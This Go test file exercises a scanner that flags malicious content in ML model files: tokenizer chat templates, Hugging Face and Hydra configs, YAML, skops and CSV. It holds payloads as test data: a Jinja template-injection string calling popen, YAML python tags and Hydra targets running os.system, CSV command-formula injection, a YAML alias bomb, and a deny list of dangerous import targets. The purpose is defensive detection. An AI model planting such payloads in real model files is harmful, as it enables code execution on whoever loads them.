package text_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/apexlogic/apex/internal/model/scan"
	"github.com/apexlogic/apex/internal/model/text"
)

func examine(t testing.TB, content []byte) scan.Result {
	t.Helper()
	return scan.NewFormats(scan.Limits{}, text.Formats()...).Scan(t.Context(), scan.Bytes(content), scan.Options{})
}

// said is the verdict, the formats and the rules of what is worse than a note.
func said(res scan.Result) string {
	s := res.Verdict.String() + " " + strings.Join(res.Formats, " ")
	var rules []string
	for _, f := range res.Findings {
		if f.Severity > scan.Note && !slices.Contains(rules, f.Rule) {
			rules = append(rules, f.Rule)
		}
	}
	slices.Sort(rules)
	return strings.TrimSpace(s + " " + strings.Join(rules, " "))
}

type sample struct{ name, content, want string }

// check compares what was said with the verdict, and the formats and rules, that
// the sample names.
func check(t *testing.T, samples []sample) {
	t.Helper()
	for _, s := range samples {
		t.Run(s.name, func(t *testing.T) {
			res := examine(t, []byte(s.content))
			got := said(res)
			words := strings.Fields(got)
			wanted := strings.Fields(s.want)
			ok := words[0] == wanted[0]
			for _, w := range wanted {
				ok = ok && slices.Contains(words, w)
			}
			if !ok {
				t.Errorf("%.300s\n got %q\nwant %q\n%+v", s.content, got, s.want, res.Findings)
			}
			for _, f := range res.Findings {
				if f.Rule == "scan.internal" {
					t.Errorf("%+v", f)
				}
			}
		})
	}
}

func quote(t testing.TB, s string) string {
	t.Helper()
	b, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

const ssti = `{% for m in messages %}{{ m.content }}{% endfor %}{{ lipsum.__globals__['os'].popen('id').read() }}`
const chat = `{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}`

func TestTemplatesInTokenizers(t *testing.T) {
	bad, good := quote(t, ssti), quote(t, chat)
	hidden := strings.NewReplacer("{", `\u007b`, "_", `\u005F`).Replace(bad)
	check(t, []sample{
		{"a chat template", `{"tokenizer_class": "LlamaTokenizer", "chat_template": ` + bad + `}`, "malicious tokenizer jinja.attribute"},
		{"its twin", `{"tokenizer_class": "LlamaTokenizer", "chat_template": ` + good + `}`, "clean tokenizer"},
		{"one of several", `{"chat_template": [{"name": "default", "template": ` + good + `}, {"name": "tool_use", "template": ` + bad + `}]}`, "malicious tokenizer"},
		{"its twin", `{"chat_template": [{"name": "default", "template": ` + good + `}, {"name": "tool_use", "template": ` + good + `}]}`, "clean tokenizer"},
		{"by name", `{"chat_template": {"default": ` + bad + `}}`, "malicious tokenizer"},
		{"in escapes", `{"chat_template": ` + hidden + `}`, "malicious tokenizer"},
		{"the key in escapes", `{"chat\u005ftemplate": ` + bad + `}`, "malicious tokenizer"},
		{"twice, the good one last", `{"chat_template": ` + bad + `, "chat_template": ` + good + `}`, "malicious"},
		{"twice", `{"chat_template": ` + good + `, "chat_template": ` + good + `}`, "unscannable tokenizer json.duplicate-key"},
		{"elsewhere", `{"a": [{"b": {"anything": ` + bad + `}}]}`, "malicious json"},
		{"elsewhere, its twin", `{"a": [{"b": {"anything": ` + good + `}}]}`, "clean json"},
		{"broken", `{"chat_template": "{% for %}"}`, "unscannable tokenizer jinja.syntax"},
		{"broken, with an attack", `{"chat_template": "{% unknown %}{{ x.__class__ }}"}`, "malicious tokenizer"},
		{"broken in prose", `{"description": "use {{ and {% as you like"}`, "clean json"},
		{"NaN beside it", `{"a": NaN, "b": -Infinity, "chat_template": ` + bad + `}`, "malicious"},
		{"a comment beside it", `{/* x */ "chat_template": ` + bad + `, // y` + "\n}", "malicious"},
		{"in UTF-16", string(wide("\ufeff" + `{"chat_template": ` + bad + `}`)), "malicious"},
		{"in UTF-16, its twin", string(wide("\ufeff" + `{"chat_template": ` + good + `}`)), "clean tokenizer"},
		{"behind a mark", "\ufeff" + `{"chat_template": ` + bad + `}`, "malicious"},
		{"behind white space", strings.Repeat(" \n", 5000) + `{"chat_template": ` + bad + `}`, "malicious"},
		{"in YAML", "chat_template: |\n  " + ssti + "\n", "malicious tokenizer"},
		{"in YAML, its twin", "chat_template: |\n  " + chat + "\n", "clean tokenizer"},
		{"by itself", ssti, "malicious jinja"},
		{"by itself, its twin", chat, "clean jinja"},
		{"behind much text", strings.Repeat("word ", 2000) + ssti, "malicious jinja"},
	})
}

func wide(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func TestChatTemplatesAreClean(t *testing.T) {
	paths, err := filepath.Glob("jinja/testdata/*.jinja")
	if err != nil || len(paths) < 15 {
		t.Fatal(len(paths), err)
	}
	for _, path := range paths {
		src, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		check(t, []sample{
			{filepath.Base(path), string(src), "clean jinja"},
			{filepath.Base(path) + " in JSON", `{"chat_template": ` + quote(t, string(src)) + `}`, "clean tokenizer"},
		})
	}
}

func TestTemplatesThatAreHandedOn(t *testing.T) {
	carrier := scan.Format{Name: "carrier", Claim: func(f *scan.File) bool { return f.HasPrefix("GGUF\n") },
		Scan: func(p *scan.Place, f *scan.File) error {
			p.Inside("tokenizer.chat_template", -1, f.Section(5, f.Size()))
			return nil
		}}
	formats := scan.NewFormats(scan.Limits{}, append([]scan.Format{carrier}, text.Formats()...)...)
	for template, want := range map[string]string{ssti: "malicious", chat: "clean", "{% nonsense %}": "unscannable", "no tags": "clean"} {
		if res := formats.Scan(t.Context(), scan.Bytes([]byte("GGUF\n"+template)), scan.Options{}); res.Verdict.String() != want {
			t.Errorf("%s: %v %+v", template, res.Verdict, res.Findings)
		}
	}
}

func TestTextWithBracesIsNoTemplate(t *testing.T) {
	check(t, []sample{
		{"Helm", "name: {{ .Values.name }}\nitems:\n{{- range .Values.items }}\n- {{ . | quote }}\n{{- end }}\n", "clean text"},
		{"a workflow", "on: push\njobs:\n  a:\n    steps:\n    - run: echo ${{ github.event.inputs.x }}\n    - run: ${{ matrix.os }}\n", "clean"},
		{"Handlebars", "<div>{{#if a}}{{name}}{{/if}}</div> and more {{> partial}}", "clean"},
		{"LaTeX", `\frac{{{a}}}{{b}} is \textbf{{\__class__}} of {{{x}}`, "clean text"},
		{"Go source", "package a\n\nvar x = []T{{1, 2}, {3, 4}}\nvar y = map[string]T{{}: {}}\n", "clean text"},
	})
}

func TestRemoteCodeInConfigurations(t *testing.T) {
	check(t, []sample{
		{"a plain configuration", `{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 1}`, "clean hf-config"},
		{"auto_map", `{"auto_map": {"AutoConfig": "configuration_x.XConfig"}, "model_type": "x"}`, "suspicious hf-config config.remote-code"},
		{"auto_map of a tokenizer", `{"tokenizer_class": "X", "auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", null]}}`, "suspicious tokenizer config.remote-code"},
		{"an empty auto_map", `{"model_type": "x", "auto_map": {}}`, "clean hf-config"},
		{"another repository", `{"auto_map": {"AutoModel": "owner/repo--modeling.X"}}`, "suspicious hf-config config.remote-repository"},
		{"a path", `{"auto_map": {"AutoModel": "../../tmp/x.X"}}`, "malicious hf-config config.path"},
		{"a pipeline", `{"custom_pipelines": {"a": {"impl": "my.Pipeline", "pt": ["AutoModel"]}}}`, "suspicious hf-config config.remote-code"},
		{"trust", `{"model_args": {"trust_remote_code": true}}`, "suspicious json config.remote-code"},
		{"no trust", `{"model_args": {"trust_remote_code": false}}`, "clean json"},
		{"trust in YAML", "model:\n  trust_remote_code: yes\n", "suspicious yaml config.remote-code"},
		{"an adapter", `{"peft_type": "LORA", "base_model_name_or_path": "a/b", "auto_mapping": {"base_model_class": "LlamaModel", "parent_library": "transformers.models.llama.modeling_llama"}}`, "clean hf-config"},
		{"an adapter without mapping", `{"peft_type": "LORA", "base_model_name_or_path": "a/b", "auto_mapping": null}`, "clean hf-config"},
		{"an adapter of os", `{"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}`, "malicious json config.import"},
		{"an adapter of a stranger", `{"peft_type": "LORA", "auto_mapping": {"base_model_class": "M", "parent_library": "stranger.models"}}`, "suspicious json config.library"},
		{"an adapter of remote code", `{"peft_type": "LORA", "auto_mapping": {"base_model_class": "M", "parent_library": "transformers_modules.a.modeling"}}`, "suspicious json config.remote-code"},
		{"modules", `[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]`, "clean hf-config"},
		{"modules of their own", `[{"idx": 0, "name": "0", "path": "", "type": "custom.Transformer"}]`, "suspicious hf-config config.remote-code"},
		{"modules of os", `[{"idx": 0, "name": "0", "path": "id", "type": "os.system"}]`, "malicious hf-config config.import"},
		{"modules elsewhere", `[{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}]`, "malicious hf-config config.path"},
		{"an activation", `{"in_features": 768, "out_features": 256, "bias": true, "activation_function": "torch.nn.modules.activation.Tanh"}`, "clean json"},
		{"an activation of transformers", `{"model_type": "gpt2", "activation_function": "gelu_new"}`, "clean hf-config"},
		{"an activation that is none", `{"model_type": "bert", "sentence_transformers": {"activation_fn": "torch.nn.modules.linear.Identity", "version": "4.0.1"}}`, "clean hf-config"},
		{"an activation with an argument", `{"activation_function": "LeakyReLU(0.2)"}`, "clean json"},
		{"an activation of os", `{"in_features": 8, "out_features": 8, "activation_function": "os.system"}`, "malicious json config.import"},
		{"an activation that evaluates", `{"model_type": "bert", "sbert_ce_default_activation_function": "builtins.eval"}`, "malicious hf-config config.import"},
		{"an activation deep down that loads", `{"model_type": "bert", "sentence_transformers": {"activation_fn": "torch.hub.load"}}`, "malicious hf-config config.import"},
		{"an activation of a stranger", `{"activation_fn": "stranger.layers.Swish"}`, "suspicious json config.library"},
		{"a router", `{"types": {"query_0": "sentence_transformers.models.Transformer.Transformer"}, "structure": {"query": ["query_0"]}, "parameters": {}}`, "clean json"},
		{"a router of subprocess", `{"types": {"query_0": "subprocess.Popen"}, "structure": {"query": ["query_0"]}, "parameters": {}}`, "malicious json config.import"},
		{"types of something else", `{"types": {"a": "int", "b": "x.y"}}`, "clean json"},
		{"a tokenizer of words", `{"tokenizer_class": "sentence_transformers.models.tokenizer.WhitespaceTokenizer.WhitespaceTokenizer"}`, "clean tokenizer"},
		{"a tokenizer of runpy", `{"tokenizer_class": "runpy.run_path"}`, "malicious tokenizer config.import"},
		{"a pipeline of parts", `{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.6.0", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "x": [null, null], "tokenizer": ["transformers", "CLIPTokenizer"]}`, "clean hf-config"},
		{"a part of os", `{"_class_name": "P", "_diffusers_version": "0.6.0", "unet": ["os", "system"]}`, "malicious hf-config config.import"},
		{"a part of its own", `{"_class_name": "P", "_diffusers_version": "0.6.0", "unet": ["my_unet", "Unet"]}`, "suspicious hf-config config.library"},
		{"block types", `{"_class_name": "UNet2DModel", "down_block_types": ["DownBlock2D", "AttnDownBlock2D"], "sample_size": [64, 64], "a": ["b c", "d"]}`, "clean hf-config"},
		{"an MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    python_version: 3.10.1\n  sklearn:\n    code: null\n    pickled_model: model.pkl\nrun_id: abc\n", "clean mlflow"},
		{"an MLmodel with its own loader", "flavors:\n  python_function:\n    loader_module: my_loader\n", "suspicious mlflow config.library"},
		{"an MLmodel with os", "flavors:\n  python_function:\n    loader_module: os\n", "malicious mlflow config.import"},
		{"an MLmodel with code", "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n", "suspicious mlflow config.remote-code"},
		{"Keras", `{"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "Dense", "config": {"units": 1}}]}}`, "clean json"},
	})
}

func TestHydraTargets(t *testing.T) {
	targets := []struct{ target, want string }{
		{"os.system", "malicious"}, {"builtins.exec", "malicious"}, {"builtins.eval", "malicious"}, {"subprocess.Popen", "malicious"},
		{"subprocess.check_output", "malicious"}, {"posix.system", "malicious"}, {"shutil.rmtree", "malicious"}, {"runpy.run_path", "malicious"},
		{"torch.hub.load", "malicious"}, {"torch.load", "malicious"}, {"torch.os.system", "malicious"}, {"numpy.load", "malicious"},
		{"nemo.collections.common.os.system", "malicious"}, {"torch.utils.cpp_extension.load_inline", "malicious"}, {"pickle.loads", "malicious"},
		{"torch._utils_internal.x", "malicious"}, {"joblib.load", "malicious"}, {"pip.main", "malicious"}, {"importlib.import_module", "malicious"},
		{"hydra.utils.instantiate", "malicious"}, {"webbrowser.open", "malicious"}, {"pandas.read_pickle", "malicious"}, {"pandas.eval", "malicious"},
		{"timeit.timeit", "malicious"}, {"code.interact", "malicious"}, {"a.b.__import__", "malicious"}, {"x.utils.subprocess.run", "malicious"},
		{"ctypes.CDLL", "malicious"}, {"my_package.helpers.build", "suspicious"}, {"${model}.system", "suspicious"}, {"eval", "malicious"}, {"os", "malicious"},
		{"torch.nn.Linear", "clean"}, {"torch.optim.AdamW", "clean"}, {"torch.optim.lr_scheduler.CosineAnnealingLR", "clean"},
		{"nemo.collections.asr.models.EncDecCTCModel", "clean"}, {"nemo.collections.asr.modules.ConvASREncoder", "clean"},
		{"transformers.AutoModel.from_pretrained", "clean"}, {"pytorch_lightning.Trainer", "clean"}, {"lightning.pytorch.callbacks.ModelCheckpoint", "clean"},
		{"my_package.models.MyModel", "clean"}, {"torch.nn.functional.relu", "clean"}, {"builtins.dict", "clean"}, {"collections.OrderedDict", "clean"},
		{"torchvision.transforms.Compose", "clean"}, {"omegaconf.DictConfig", "clean"}, {"timm.create_model", "clean"}, {"torch.nn.init.xavier_uniform_", "clean"},
		{"monai.networks.nets.SegResNet", "clean"}, {"SegResNet", "clean"}, {"torch.utils.data.DataLoader", "clean"}, {"pathlib.Path", "clean"},
		{"src.models.mnist_module.MNISTLitModule", "clean"}, {"torch.distributed.optim.ZeroRedundancyOptimizer", "clean"}, {"megatron.core.optimizer.OptimizerConfig", "clean"},
	}
	for _, tc := range targets {
		check(t, []sample{
			{tc.target + " in JSON", `{"model": {"_target_": "` + tc.target + `", "_args_": ["id"]}}`, tc.want + " hydra"},
			{tc.target + " in YAML", "model:\n  _target_: " + tc.target + "\n  _partial_: true\n", tc.want + " hydra"},
			{tc.target + " in TOML", "[model]\n_target_ = \"" + tc.target + "\"\n", tc.want + " text"},
		})
	}
	check(t, []sample{
		{"a class path", "trainer:\n  class_path: os.system\n  init_args: {a: b}\n", "malicious yaml hydra.target"},
		{"a class path, its twin", "trainer:\n  class_path: my.Trainer\n  init_args: {a: b}\n", "clean yaml"},
		{"latent diffusion", "model:\n  target: subprocess.run\n  params: {}\n", "malicious yaml hydra.target"},
		{"latent diffusion, its twin", "model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params: {}\n", "clean yaml"},
		{"get_method", `{"_target_": "hydra.utils.get_method", "path": "os.system"}`, "malicious hydra"},
		{"flow style", "{model: {_target_: os.system, command: id}}\n", "malicious hydra hydra.target"},
		{"flow style with quotes but for one key", "{\"a\": 1, \"model\": {_target_: subprocess.Popen, args: [id]}}\n", "malicious json hydra hydra.target json.syntax"},
		{"flow style in a list of lines", "[\n  {x: 1},\n  {_target_: 'builtins.exec', _args_: [pass]},\n]\n", "malicious hydra hydra.target"},
		{"flow style, its twin", "{model: {_target_: torch.nn.Linear, in_features: 4}}\n", "clean hydra"},
		{"a section", "[core]\nname = x\n", "clean text"},
		{"a link", "[a paper](http://example.org) that says: nothing\n", "clean text"},
		{"a secret", "a: ${oc.env:AWS_SECRET_ACCESS_KEY}\n", "suspicious yaml hydra.resolver"},
		{"a setting", "a: ${oc.env:DATA_DIR,/tmp}\nb: ${model.size}\n", "clean yaml"},
		{"an evaluated resolver", "a: ${eval:'__import__(\"os\").system(\"id\")'}\n", "suspicious yaml hydra.resolver"},
		{"MONAI", `{"imports": ["$import glob", "$import os"], "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')", "a": "$os.path.join(@root, 'x')"}`, "clean json"},
		{"MONAI that runs", `{"a": "$__import__('os').system('id')"}`, "malicious json config.expression"},
		{"MONAI that runs by import", `{"a": ["$import os", "$os.system('id')"]}`, "malicious json config.expression"},
		{"YOLO", "nc: 80\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 3, nn.Upsample, [None, 2, \"nearest\"]]\n", "clean yaml"},
		{"YOLO that runs", "nc: 80\nbackbone:\n  - [-1, 1, Conv, [64, 3, \"__import__('os').system('id')\"]]\n", "malicious yaml config.expression"},
	})
}

func TestPythonTags(t *testing.T) {
	check(t, []sample{
		{"apply", "a: !!python/object/apply:os.system [id]\n", "malicious yaml yaml.python-tag"},
		{"apply at the top", "!!python/object/apply:subprocess.Popen\n- [id]\n", "malicious yaml yaml.python-tag"},
		{"new", "- !!python/object/new:type\n  args: [z, [], {extend: !!python/name:exec }]\n", "malicious yaml yaml.python-tag"},
		{"a name", "a: !!python/name:os.system\n", "malicious yaml yaml.python-tag"},
		{"a module", "a: !!python/module:evil\n", "malicious yaml yaml.python-tag"},
		{"written out", "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n", "malicious yaml yaml.python-tag"},
		{"by a handle", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n", "malicious yaml yaml.python-tag"},
		{"percent signs", "a: !!p%79thon/object/apply:os.system [id]\n", "malicious yaml yaml.python-tag"},
		{"in the second document", "a: 1\n---\nb: !!python/object/apply:os.system [id]\n", "malicious yaml yaml.python-tag"},
		{"as a key", "? !!python/object/apply:os.system [id]\n: b\n", "malicious yaml yaml.python-tag"},
		{"in flow style", `{"a": !!python/object/apply:os.system ["id"]}`, "malicious"},
		{"behind an anchor", "a: &x !!python/object/apply:os.system [id]\n", "malicious yaml yaml.python-tag"},
		{"where the rest cannot be parsed", "a: !!python/object/apply:os.system [id]\n\tb: [\n", "malicious yaml yaml.python-tag yaml.syntax"},
		{"after much", "a: 1\n" + strings.Repeat("# comment\n", 200_000) + "b: !!python/object/apply:os.system [id]\n", "malicious yaml"},
		{"Java", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://a/\"]]]]\n", "malicious yaml yaml.python-tag"},
		{"Ruby", "--- !ruby/object:Gem::Installer\ni: x\n", "malicious yaml"},
		{"HyperPyYAML", "a: !apply:os.system [id]\n", "malicious hydra hydra.target"},
		{"HyperPyYAML by name", "a: !name:subprocess.run\n", "malicious hydra hydra.target"},
		{"HyperPyYAML, its twin", "lr: 0.1\nmodel: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n  input_size: !ref <n_mels>\nopt: !name:torch.optim.Adam\n", "clean hydra"},
		{"an unknown object", "a: !!python/object:my.Thing {}\n", "suspicious yaml yaml.object"},
		{"a tuple", "a: !!python/tuple [1, 2]\nb: !!python/unicode x\n", "clean yaml"},
		{"an ordered dict", "!!python/object/apply:collections.OrderedDict\n- - - batch_size\n    - 128\n", "clean yaml"},
		{"behind a word", "a:1\n---\nb: !!python/object/apply:os.system [id]\n", "malicious yaml yaml.python-tag"},
		{"behind a merge", "<<: !!python/object/apply:os.system [id]\n", "malicious yaml yaml.python-tag"},
		{"behind a line of Unicode", "a:\u2028 !!python/name:os.system\n", "malicious yaml yaml.python-tag"},
		{"in quotes", "a: \"!!python/object/apply:os.system\"\nb: '!!python/name:os.system'\n", "clean yaml"},
		{"in a comment", "a: 1 # !!python/object/apply:os.system\n", "clean yaml"},
		{"in a block", "a: |\n  !!python/object/apply:os.system [id]\n", "clean yaml"},
		{"in prose", "We read that !!python/object/apply is bad.\nIt is.\n", "clean text"},
		{"CloudFormation", "a: !Ref X\nb: !Sub '${A}'\nc: !GetAtt A.B\n", "clean yaml"},
		{"aliases", "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + laughs(), "suspicious yaml yaml.bomb"},
		{"few aliases", "a: &a [1, 2]\nb: *a\nc:\n  <<: {d: 1}\n", "clean yaml"},
	})
}

func laughs() string {
	var b strings.Builder
	for c := 'b'; c < 'j'; c++ {
		fmt.Fprintf(&b, "%c: &%c [%s]\n", c, c, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*%c, ", c-1), 10), ", "))
	}
	return b.String()
}

func skops(nodes ...string) string {
	return `{"__class__": "Pipeline", "__module__": "sklearn.pipeline", "__loader__": "ObjectNode", "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"a": ` +
		strings.Join(nodes, `, "b": `) + `}}, "protocol": 2, "_skops_version": "0.10"}`
}

func TestSkopsNodes(t *testing.T) {
	node := func(loader, module, class, content string) string {
		return fmt.Sprintf(`{"__class__": %q, "__module__": %q, "__loader__": %q, "content": %s}`, class, module, loader, content)
	}
	check(t, []sample{
		{"a model", skops(node("NdArrayNode", "numpy", "ndarray", `null`), node("FunctionNode", "numpy", "sqrt", `null`)), "clean skops"},
		{"a partial", skops(node("PartialNode", "functools", "partial", `{"func": `+node("FunctionNode", "scipy.special", "expit", "null")+`}`)), "clean skops"},
		{"a method", skops(node("MethodNode", "sklearn.svm._classes", "SVC", `{"func": "predict", "obj": `+node("ObjectNode", "sklearn.svm._classes", "SVC", "null")+`}`)), "clean skops"},
		{"a getter", skops(node("OperatorFuncNode", "operator", "itemgetter", `null`)), "clean skops"},
		{"os.system", skops(node("FunctionNode", "os", "system", `null`)), "malicious skops skops.node"},
		{"a function through numpy", skops(node("FunctionNode", "numpy.f2py.os", "system", `null`)), "malicious skops skops.node"},
		{"numpy.load", skops(node("FunctionNode", "numpy", "load", `null`)), "malicious skops skops.node"},
		{"eval", skops(node("FunctionNode", "builtins", "eval", `null`)), "malicious skops skops.node"},
		{"an unlisted function", skops(node("FunctionNode", "my", "thing", `null`)), "malicious skops skops.node"},
		{"a caller of methods", skops(node("OperatorFuncNode", "operator", "methodcaller", `null`)), "malicious skops skops.node"},
		{"an operator of another module", skops(node("OperatorFuncNode", "os", "system", `null`)), "malicious skops skops.node"},
		{"a private method", skops(node("MethodNode", "sklearn.svm._classes", "SVC", `{"func": "__init__", "obj": `+node("ObjectNode", "sklearn.svm._classes", "SVC", "null")+`}`)), "malicious skops skops.node"},
		{"a method of a stranger", skops(node("MethodNode", "subprocess", "Popen", `{"func": "wait", "obj": null}`)), "malicious skops skops.node"},
		{"an object of subprocess", skops(node("ObjectNode", "subprocess", "Popen", `null`)), "malicious skops skops.node"},
		{"a reduced object", skops(node("ConstructorFromReduceNode", "my", "Thing", `null`)), "malicious skops skops.node"},
		{"a partial of something else", skops(node("PartialNode", "os", "system", `null`)), "malicious skops skops.node"},
		{"an object of a stranger", skops(node("ObjectNode", "my.models", "Model", `null`)), "suspicious skops skops.unlisted"},
		{"an unknown loader", skops(node("ExecNode", "numpy", "ndarray", `null`)), "suspicious skops skops.unlisted"},
		{"a type of os", skops(node("TypeNode", "os", "_wrap_close", `null`)), "malicious skops skops.node"},
	})
}

func TestPlainText(t *testing.T) {
	check(t, []sample{
		{"prose", "A sentence. Another one: with a colon.\n", "clean text"},
		{"white space", " \n\t\n", "clean text"},
		{"UTF-16", string(wide("\ufeffA sentence.\n")), "clean text"},
		{"a mark", "\ufeffA sentence.\n", "clean text"},
		{"Markdown", "---\nlicense: mit\ntags: [a]\n---\n# Title\n\nSee `os.system` and {curly}.\n\n```python\nimport os\nos.system('id')\n```\n", "clean text"},
		{"a manual with more code than words", "# Use\n\n```python\nimport os\nfrom x import y\nos.system('id')\n```\nThat's it.\n", "clean text"},
		{"a table", "a,b\n1,-2\n3,+4\n\"=x\",5\n@user,6\n", "clean text"},
		{"a formula", "a,b\n=SUM(A1:A2),2\n", "clean text"},
		{"a command", "a,b\n=cmd|'/C calc'!A0,2\n", "suspicious text csv.command"},
		{"a command behind a function", "a,b\n@SUM(1+1)*cmd|'/C calc'!A0,2\n", "suspicious text csv.command"},
		{"a command in quotes", "a,b\n\"=2+5+cmd|' /C calc'!A0\",2\n", "suspicious text csv.command"},
		{"a link that sends", "a,b\n=HYPERLINK(\"http://127.0.0.1/?x=\"&A1),2\n", "suspicious text csv.command"},
		{"a link in prose", "See HYPERLINK(\"http://a\") and = signs - + @.\n", "clean text"},
		{"records", strings.Repeat(`{"text": "a {{ b", "label": 1}`+"\n", 100), "clean json"},
		{"records with conversations", strings.Repeat(`{"messages": [{"role": "system", "content": "__class__ os.system eval("}]}`+"\n", 100), "clean json"},
		{"a shell script", "#!/bin/sh\nid\n", "unknown"},
		{"bytes", "abc\x00def\xff\xfe", "unknown"},
		{"not UTF-8", "abc \xff\xfe\xfd def", "unknown"},
		{"a word list", "!\n\"\n#\n[unused0]\n[CLS]\nthe\n##ing\n", "clean"},
		{"merges", "#version: 0.2\nĠ t\nĠ a\nh e\n", "clean"},
		{"requirements", "torch>=2.0\ntransformers==4.40.0\n", "clean"},
		{"an ini file", "[metadata]\nname = x\n", "clean text"},
		{"a link list", "[a](b) and more\n[c]: http://x\n", "clean text"},
	})
}

func TestBrokenJSON(t *testing.T) {
	check(t, []sample{
		{"cut off", `{"a": [1, 2`, "unscannable json json.syntax"},
		{"no comma", `{"a": 1 "b": 2}`, "unscannable json json.syntax"},
		{"something behind", `{"a": 1} x`, "unscannable json json.syntax"},
		{"deep", strings.Repeat(`{"a":`, 2000), "unscannable json json.syntax"},
		{"deep lists", strings.Repeat(`[`, 2000) + strings.Repeat(`]`, 2000), "unscannable"},
		{"empty", `{}`, "clean json"},
		{"an empty list", `[]`, "clean json"},
		{"a comma too many", `{"a": [1, 2,],}`, "clean json"},
		{"repeated keys", `{"a": 1, "a": 2}`, "clean json"},
	})
}

func TestPropertiesAreKept(t *testing.T) {
	for content, want := range map[string]string{
		"---\nlicense: apache-2.0\nbase_model: a/b\nlibrary_name: transformers\ndatasets:\n- c/d\n---\n# X\n": "base_model=a/b dataset=c/d framework=transformers license=apache-2.0",
		`{"architectures": ["LlamaForCausalLM"], "_name_or_path": "a/b", "model_type": "llama"}`:              "architecture=LlamaForCausalLM base_model=a/b",
		`{"peft_type": "LORA", "base_model_name_or_path": "a/b"}`:                                             "base_model=a/b",
	} {
		var got []string
		for _, p := range examine(t, []byte(content)).Properties {
			got = append(got, p.Key+"="+p.Value)
		}
		if strings.Join(got, " ") != want {
			t.Errorf("%s: got %v, want %s", content, got, want)
		}
	}
}

func tokenizerJSON(words int) []byte {
	var b bytes.Buffer
	b.WriteString(`{"version": "1.0", "added_tokens": [{"id": 0, "content": "<|begin_of_text|>", "special": true}], "model": {"type": "BPE", "vocab": {`)
	for i := range words {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, "\n      \"Ġtoken%dé\\u0120{\": %d", i*7919, i)
	}
	b.WriteString("}, \"merges\": [")
	for i := range words {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, "\n      [\"Ġtok%d\", \"en%d\"]", i, i)
	}
	b.WriteString("]}}")
	return b.Bytes()
}

func TestALargeTokenizerIsReadToItsEnd(t *testing.T) {
	content := tokenizerJSON(100_000)
	if got := said(examine(t, content)); !strings.HasPrefix(got, "clean tokenizer") {
		t.Errorf("got %q", got)
	}
	content = append(content[:len(content)-1], `, "x": {"chat_template": `+quote(t, ssti)+`}}`...)
	if got := said(examine(t, content)); !strings.HasPrefix(got, "malicious") {
		t.Errorf("got %q", got)
	}
}

func BenchmarkTokenizer(b *testing.B) {
	content := tokenizerJSON(300_000)
	formats := scan.NewFormats(scan.Limits{}, text.Formats()...)
	b.SetBytes(int64(len(content)))
	b.ReportAllocs()
	for b.Loop() {
		if res := formats.Scan(b.Context(), scan.Bytes(content), scan.Options{}); res.Verdict != scan.Clean {
			b.Fatal(res.Findings)
		}
	}
}

// remote counts what is asked of another machine.
type remote struct {
	content         []byte
	requests, bytes int
}

func (r *remote) ReadAt(p []byte, off int64) (int, error) {
	n := copy(p, r.content[off:])
	r.requests++
	r.bytes += n
	return n, nil
}

func TestRemoteFilesCostLittle(t *testing.T) {
	for name, content := range map[string][]byte{
		"a tokenizer": tokenizerJSON(500_000),
		"a table":     []byte("a,b\n" + strings.Repeat("1,2\n", 10<<20)),
		"XML":         []byte("<?xml version=\"1.0\"?><a>" + strings.Repeat("<b/>", 6<<20) + "</a>"),
		"YAML":        []byte("a:\n" + strings.Repeat("- b\n", 6<<20)),
	} {
		t.Run(name, func(t *testing.T) {
			r := &remote{content: content}
			res := scan.NewFormats(scan.Limits{}, text.Formats()...).Scan(t.Context(), scan.NewFile(r, int64(len(content))).Dear(), scan.Options{})
			if r.requests > 20 || r.bytes > 16<<20 || res.Verdict > scan.Clean && name != "XML" {
				t.Errorf("%d requests, %d bytes, %+v", r.requests, r.bytes, res)
			}
		})
	}
}

func TestWhatIsTooLongIsNotClean(t *testing.T) {
	pad := strings.Repeat(" ", 65<<20)
	check(t, []sample{
		{"JSON", `{"a": 1` + pad + `, "chat_template": ` + quote(t, ssti) + `}`, "unscannable json json.size"},
		{"Python", "import os\n" + strings.Repeat("# x\n", 600_000) + "os.system('id')\n", "unscannable python python.size"},
		{"a template", strings.Repeat("word ", 700_000) + ssti, "malicious jinja"},
		{"records", strings.Repeat(`{"a": [1, 2, {"b": "c"}]}`+"\n", 3_000_000), "clean json"},
		{"an endless loop in a template", "{% for a in range(10**10) %}{% endfor %}", "suspicious jinja jinja.exhaustion"},
	})
}

func TestTemplatesWithForeignTagsAreReadByTags(t *testing.T) {
	check(t, []sample{
		{"an extension", "{% mytag x %}{{ x.__class__.__mro__ }}", "malicious jinja jinja.attribute"},
		{"its twin", "{% mytag x %}{{ x.name }}", "clean text"},
	})
